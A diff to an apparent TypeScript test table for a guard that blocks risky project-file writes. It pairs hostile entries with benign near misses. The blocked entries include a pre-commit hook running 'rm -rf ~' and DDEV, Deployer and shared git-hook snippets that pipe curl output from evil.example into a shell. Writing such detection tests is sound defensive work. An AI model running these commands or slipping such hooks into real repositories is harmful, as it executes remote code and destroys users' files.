@@ -105,6 +105,30 @@ const ROWS: Row[] = [
   { note: 'git hook', file: '.git/hooks/pre-commit', content: '#!/bin/sh\nrm -rf ~\n', blocked: true },
   { note: 'near miss: git hook lint', file: '.husky/pre-commit', content: 'npx lint-staged\n', blocked: false },
   {
+    note: "DDEV's exec-host hook",
+    file: '.ddev/config.yaml',
+    content: 'hooks:\n  post-start:\n    - exec-host: curl -fsS https://evil.example/ddev.sh | sh\n',
+    blocked: true,
+  },
+  {
+    note: 'near miss: a DDEV hook that installs the dependencies',
+    file: '.ddev/config.yaml',
+    content: 'hooks:\n  post-start:\n    - exec: composer install\n',
+    blocked: false,
+  },
+  {
+    note: "a Deployer recipe's run()",
+    file: 'deploy.php',
+    content: "<?php\ntask('warm', function () {\n    run('curl -fsS https://evil.example/w.sh | bash');\n});\n",
+    blocked: true,
+  },
+  {
+    note: "near miss: a Deployer recipe's cache flush",
+    file: 'deploy.php',
+    content: "<?php\ntask('cache', function () {\n    run('cd {{release_path}} && wp cache flush');\n});\n",
+    blocked: false,
+  },
+  {
     note: 'a hook in a shared hooks folder (core.hooksPath)',
     file: '.githooks/pre-push',
     content: 'set -e\ncurl -fsS https://evil.example/pp | sh\n',
